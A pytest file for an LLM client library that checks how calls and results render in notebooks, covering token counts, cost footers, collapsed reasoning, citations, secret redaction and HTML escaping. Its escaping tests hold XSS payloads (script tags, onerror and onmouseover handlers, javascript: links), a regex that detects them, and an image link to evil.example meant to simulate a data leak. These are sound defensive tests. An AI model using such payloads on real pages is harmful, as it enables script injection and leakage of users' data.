"""Displays of LLMCall and its results: the mimebundle, escaping, secrets."""

from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest
from markdown_it import MarkdownIt

import llmkit
from llmkit import LLMCall
from llmkit.base import hooks
from llmkit.base.errors import LLMKitError
from llmkit.base.models import cost as model_cost
from llmkit.base.money import format_cost
from llmkit.base.result import Completion, Result
from llmkit.base.tokens import count_tokens
from llmkit.notebook import display
from llmkit.notebook.widgets import CallView
from tests.conftest import SECRET
from tests.openai_server import OpenAITestServer
from tests.test_widgets import widget_states

FALLBACKS = {"text/plain", "text/html", "text/markdown"}
XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
# A live tag that runs or loads something: <script, <img, an on...= handler inside a tag, a javascript: link.
RAW_HTML = re.compile(r"<\s*(?:script|img|iframe|svg)\b|<[^<>]*\bon\w+\s*=|href\s*=\s*[\"']?javascript:",
                      re.IGNORECASE)


def rendered_markdown(text: str) -> str:
    """What a Markdown renderer that lets raw HTML through (a trusted Jupyter output) makes of it."""
    return str(MarkdownIt("commonmark").render(text))


def test_llmcall_before_a_call_shows_templates_variables_and_params() -> None:
    call = LLMCall("You are {{ persona }}.", "Tell me about {{ topic }}.", temperature=0)
    bundle = call._repr_mimebundle_()
    assert set(bundle) == FALLBACKS
    text = bundle["text/plain"]
    assert text.splitlines()[0] == "LLMCall · gpt-4o-mini (default) · temperature=0"
    assert "variables: persona, topic" in text
    assert "[system template <inline>] You are {{ persona }}." in text
    assert "[user template <inline>] Tell me about {{ topic }}." in text
    assert "tokens:" not in text and "[output]" not in text
    assert "&lt;inline&gt;" in bundle["text/html"] and "{{ topic }}" in bundle["text/html"]
    assert "{{ persona }}" in bundle["text/markdown"] and "` temperature=0 `" in bundle["text/markdown"]


def test_llmcall_after_a_call_shows_messages_output_usage_cost(llm: OpenAITestServer) -> None:
    call = LLMCall("You are {{ persona }}.", "Tell me about {{ topic }}.", temperature=0, max_tokens=50)
    result = call.call(persona="a poet", topic="the sea")
    bundle = call._repr_mimebundle_()
    text, page, md = bundle["text/plain"], bundle["text/html"], bundle["text/markdown"]
    usage, model = result.usage, result.model
    per_message = [count_tokens([m], model) - count_tokens([], model) for m in call.messages]
    assert sum(per_message) + count_tokens([], model) == count_tokens(call.messages, model)
    assert f"[system · {per_message[0]} tokens] You are a poet." in text
    assert f"[user · {per_message[1]} tokens] Tell me about the sea." in text
    assert "[output] echo: Tell me about the sea." in text
    assert "variables: persona, topic" in text
    header = text.splitlines()[0]
    assert header.startswith("LLMCall · gpt-4o-mini · temperature=0.0 · max_tokens=50 · ")  # as sent
    assert " · max_tokens=50 · " in header
    assert re.search(r" · \d+\.\d\d s · ", header) and "cache hit" not in header
    cost = format_cost(model_cost(model, usage))
    assert re.fullmatch(r"\$0\.0*[1-9]\d?", cost) and f"cost {cost}" in header.split(" · ")
    totals = (f"tokens: prompt {usage['prompt_tokens']} · completion {usage['completion_tokens']} · "
              f"total {usage['total_tokens']}")
    assert text.endswith(totals) and totals in page and totals in md
    assert re.search(rf'<span class="llmkit-tokens"[^>]*>{per_message[1]} tokens</span>', page)
    assert page.index("llmkit-output") < page.index("llmkit-prompt") < page.index("llmkit-header")
    assert '<details class="llmkit-prompt">' in page  # the prompt is collapsed under the answer
    assert '<div class="llmkit-output"' in page and "<p>echo: Tell me about the sea.</p>" in page
    assert "**output**\n\necho: Tell me about the sea." in md
    assert "llmkit-cache-hit" not in page

    again = call.call(persona="a poet", topic="the sea")
    cached = again._repr_mimebundle_()
    assert cached["text/plain"].splitlines()[0].startswith("Result · gpt-4o-mini · ")
    assert "cost $0 · cache hit" in cached["text/plain"]  # a cache hit is free
    assert 'class="llmkit-cache-hit"' in cached["text/html"] and "**cache hit**" in cached["text/markdown"]


def test_output_is_rendered_as_markdown(llm: OpenAITestServer) -> None:
    answer = "# Plan\n\n1. **Boil** water\n2. Use `List<int>`\n\n```python\nif a < b: pass\n```"
    llm.reply(answer)
    bundle = LLMCall("s", "u").call()._repr_mimebundle_()
    page = bundle["text/html"]
    assert "<h1>Plan</h1>" in page and "<strong>Boil</strong>" in page
    assert "<code>List&lt;int&gt;</code>" in page and "if a &lt; b: pass" in page
    assert bundle["text/markdown"].endswith(answer + "\n\n" + bundle["text/plain"].splitlines()[-1])


def test_long_messages_collapse(llm: OpenAITestServer) -> None:
    long_text = "word " * 200
    bundle = LLMCall("short system", "{{ q }}").call(q=long_text)._repr_mimebundle_()
    assert bundle["text/html"].count('<details class="llmkit-message"') == 1
    assert re.search(r'<div class="llmkit-message"[^>]*><span[^>]*>system</span>', bundle["text/html"])
    assert bundle["text/markdown"].count("<details><summary>user · ") == 1
    assert re.search(r"\[user · \d+ tokens\] (word ){80}.*… \(\d+ more characters\)", bundle["text/plain"])


def test_model_output_cannot_inject_html(llm: OpenAITestServer) -> None:
    llm.reply(f"Sure. {XSS}\n\n<div onmouseover=alert(1)>\n\n"
              "![pixel](https://evil.example/?leak=1) [click](javascript:alert(1))")
    call = LLMCall("You are {{ persona }}.", "{{ question }}")
    result = call.call(persona=XSS, question=f"Say {XSS}")  # the user's own text too
    for bundle in (call._repr_mimebundle_(), result._repr_mimebundle_()):
        page = bundle["text/html"]
        assert not RAW_HTML.search(page)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in page
        assert "evil.example" in page and "<img" not in page  # the image shows as text, never loads
        rendered = rendered_markdown(bundle["text/markdown"])
        assert not RAW_HTML.search(rendered)
        assert "&lt;script&gt;" in rendered  # shown, as text
    view = CallView(result)
    states = json.dumps(widget_states(view))
    assert not RAW_HTML.search(states) and "&lt;img src=x onerror=alert(1)&gt;" in states


def test_no_secret_in_any_output(llm: OpenAITestServer, monkeypatch: pytest.MonkeyPatch) -> None:
    llm.reply(f"I must not repeat {SECRET}.")
    call = LLMCall("Key: {{ key }}", "Repeat it", extra_headers={"X-Api-Key": SECRET})
    shown = [call._repr_mimebundle_()]
    result = call.call(key=SECRET)
    shown += [call._repr_mimebundle_(), result._repr_mimebundle_()]
    dumped = json.dumps(shown) + json.dumps(widget_states(CallView(result)))
    assert SECRET not in dumped
    assert "extra_headers=<hidden>" in shown[1]["text/plain"]
    assert "I must not repeat <hidden>." in shown[1]["text/plain"] and "Key: <hidden>" in dumped


def test_a_clients_own_key_is_hidden_too(llm: OpenAITestServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_API_KEY")
    own = "sk-own-client-key-777"
    call = LLMCall("s", "{{ q }}", client=llmkit.OpenAIClient(base_url=llm.base_url, api_key=own))
    call.call(q=f"my key is {own}")
    bundle = call._repr_mimebundle_()
    assert own not in json.dumps(bundle) and "echo: my key is <hidden>" in bundle["text/plain"]


def test_displays_are_static_even_inside_a_kernel(
        llm: OpenAITestServer, monkeypatch: pytest.MonkeyPatch) -> None:
    result = LLMCall("s", "u").call()
    assert hooks.in_kernel() is False and set(result._repr_mimebundle_()) == FALLBACKS
    monkeypatch.setattr(hooks, "in_kernel", lambda: True)  # no widget: it would not survive a reopen
    bundle = result._repr_mimebundle_()
    assert set(bundle) == FALLBACKS and bundle["text/plain"].startswith("Result · ")


def test_terminal_ipython_is_not_a_kernel() -> None:
    code = ("import sys; from llmkit.base import hooks; "
            "print(hooks.in_kernel(), type(get_ipython()).__name__)")
    out = subprocess.run([sys.executable, "-m", "IPython", "--quick", "--no-banner", "-c", code],
                         capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["False", "TerminalInteractiveShell"]


def test_plain_python_displays_stay_light() -> None:
    code = ("import sys; from llmkit.base.result import Completion, Result; "
            "from llmkit.notebook.display import mimebundle; "
            "c = Completion({'model': 'gpt-4o', 'messages': [{'role': 'user', 'content': 'hi'}]}, "
            "{'choices': [{'message': {'role': 'assistant', 'content': '*hey*'}}]}, 0.1, False); "
            "b = mimebundle(Result(c)); assert '<em>hey</em>' in b['text/html'], b; "
            "print([m for m in ('IPython', 'ipywidgets', 'openai') if m in sys.modules])")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_local_models_display_without_warnings(llm: OpenAITestServer) -> None:
    result = LLMCall("s", "hello", model="display-test-local-model").call()
    text = result._repr_mimebundle_()["text/plain"]  # warnings are errors in this suite
    assert "price unknown" in text.splitlines()[0].split(" · ")
    assert re.search(r"\[user · \d+ tokens\] hello", text)


def test_displaying_something_else_says_what_is_expected() -> None:
    with pytest.raises(LLMKitError, match="pass an LLMCall, a Result or a Completion"):
        display.mimebundle(42)


def test_a_server_that_reports_no_usage_shows_an_estimated_cost_and_no_tokens() -> None:
    completion = llmkit.Completion({"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}]},
                                   {"choices": [{"message": {"role": "assistant", "content": "hey"}}]},
                                   0.25, False)
    text = display.mimebundle(completion)["text/plain"]
    assert text.splitlines()[0] == (f"Completion · gpt-4o · 0.25 s · cost ≈ {format_cost(completion.cost)} "
                                    "(estimated)")
    assert "tokens:" not in text and text.endswith("[output] hey")


def test_a_cut_off_answer_is_flagged_above_it_and_defaults_are_not_repeated(
        llm: OpenAITestServer) -> None:
    result = LLMCall("s", "{{ q }}", max_tokens=2).call(q="one two three four")
    assert result.completion.finish_reason == "length"
    page = result._repr_mimebundle_()["text/html"]
    assert page.index("llmkit-warning") < page.index("llmkit-output")
    assert "cut off: the answer reached its max_tokens limit" in page
    plain = LLMCall("s", "u").call()._repr_mimebundle_()
    assert "max_tokens=1024" not in plain["text/html"] and "max_tokens" not in plain["text/plain"]
    assert "var(--jp-border-color2" in plain["text/html"]  # JupyterLab's theme variables
    assert '<details class="llmkit-copy">' in plain["text/html"]  # the raw answer, to copy
    assert "user-select:all" in plain["text/html"] and "echo: u</pre>" in plain["text/html"]


def _completion(model: str, usage: dict[str, int] | None, *, cached: bool = False,
                api_type: str = "openai") -> Completion:
    response: dict[str, object] = {"model": model, "choices": [{"message": {"role": "assistant",
                                                                            "content": "hello there"}}]}
    if usage is not None:
        response["usage"] = usage
    return Completion({"model": model, "messages": [{"role": "user", "content": "hi"}]}, response,
                      0.1, cached, api_type)


def test_the_footer_shows_what_was_paid() -> None:
    usage = {"prompt_tokens": 1000, "completion_tokens": 100, "total_tokens": 1100}
    paid = _completion("gpt-4o-mini", usage)
    def footer(c: Completion) -> list[str]:
        return str(Result(c)._repr_mimebundle_()["text/plain"]).splitlines()[0].split(" · ")
    assert f"cost {format_cost(paid.cost)}" in footer(paid)
    local = _completion("gpt-4o-mini", usage, api_type="local")  # runs here: free
    hit = _completion("gpt-4o-mini", usage, cached=True)
    for free in (local, hit):
        assert "cost $0" in footer(free) and "cost $0<" in Result(free)._repr_mimebundle_()["text/html"]
    estimated = _completion("gpt-4o-mini", None)  # a proxy that sends no usage
    shown = footer(estimated)[-1]
    assert estimated.cost_estimated and re.fullmatch(r"cost ≈ \$0\.0*[1-9]\d? \(estimated\)", shown)


def test_the_footer_names_the_tools_instead_of_their_specification() -> None:
    spec = {"type": "object", "properties": {"city": {"type": "string", "description": "A city"}}}
    tools = [{"type": "function", "function": {"name": "get_weather", "description": "Weather now",
                                               "parameters": spec}},
             {"type": "function", "name": "search_docs", "parameters": spec},  # Responses API form
             {"type": "web_search"}]
    completion = Completion({"model": "gpt-4o", "messages": [{"role": "user", "content": "hi"}],
                             "tools": tools}, {"choices": [{"message": {"content": "ok"}}]}, 0.1, False)
    bundle = display.mimebundle(completion)
    assert "tools=get_weather, search_docs, web_search" in bundle["text/plain"].splitlines()[0]
    for shown in bundle.values():
        assert "properties" not in shown and "Weather now" not in shown


def test_reasoning_collapsed_above_the_answer_and_sources_below_escaped(llm: OpenAITestServer) -> None:
    llm.cite([{"url": "https://example.com/a?x=1&y=2", "title": f"A {XSS} ](javascript:alert(1))"},
              {"url": "javascript:alert(1)", "title": "never shown"},
              {"url": 'https://evil.example/"onmouseover=alert(1)', "title": "never shown"}])
    result = LLMCall("Be brief.", "{{ q }}", model="gpt-5", reasoning_summary="auto",
                     tools=[{"type": "web_search"}]).call(q=f"find {XSS}")
    bundle = result._repr_mimebundle_()
    page = bundle["text/html"]
    assert not RAW_HTML.search(page) and "never shown" not in page
    reasoning = page.index('<details class="llmkit-reasoning"><summary')  # closed: no "open"
    assert reasoning < page.index('class="llmkit-output"') < page.index('class="llmkit-citations"')
    assert "thought about: echo: find &lt;script&gt;" in page
    assert '<a href="https://example.com/a?x=1&amp;y=2" target="_blank"' in page
    assert f"A {XSS.replace('<', '&lt;').replace('>', '&gt;')}" in page
    assert 'class="llmkit-hosted"' in page and "query: find &lt;script&gt;" in page
    rendered = rendered_markdown(bundle["text/markdown"])
    assert not RAW_HTML.search(rendered) and "never shown" not in rendered
    assert rendered.index("reasoning summary") < rendered.index("sources")
    assert '<a href="https://example.com/a?x=1&amp;y=2">A &lt;script&gt;' in rendered
    text = bundle["text/plain"]
    assert "[reasoning] thought about: echo: find" in text
    assert f"[source] A {XSS} ](javascript:alert(1)) <https://example.com/a?x=1&y=2>" in text
    assert "[web_search_call] query: find" in text
